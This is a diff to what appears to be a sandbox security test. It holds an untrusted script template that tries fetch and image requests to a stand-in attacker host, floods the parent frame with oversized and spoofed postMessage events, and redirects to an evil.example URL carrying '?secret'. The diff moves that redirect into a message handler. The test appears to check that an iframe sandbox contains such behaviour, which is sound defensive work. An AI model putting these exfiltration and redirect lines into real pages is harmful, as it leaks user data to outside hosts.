@@ -25,9 +25,11 @@ fetch("https://evil.example/fetch").catch(() => say(["fetch", "failed"]));
 new Image().src = "https://evil.example/image.png";
 parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready" }, "*");
 parent.postMessage({ big: "a".repeat(2e7) }, "*");
-addEventListener("message", ({ data }) => say(["got", data.method]));
+addEventListener("message", ({ data }) => {
+  say(["got", data.method]);
+  setTimeout(() => { location.href = "https://evil.example/?secret"; }, 500);
+});
 console.error("broken");
-setTimeout(() => { location.href = "https://evil.example/?secret"; }, 500);
 </script>`;
 
 for (const mode of ["isolated", "opaque"] as const) {
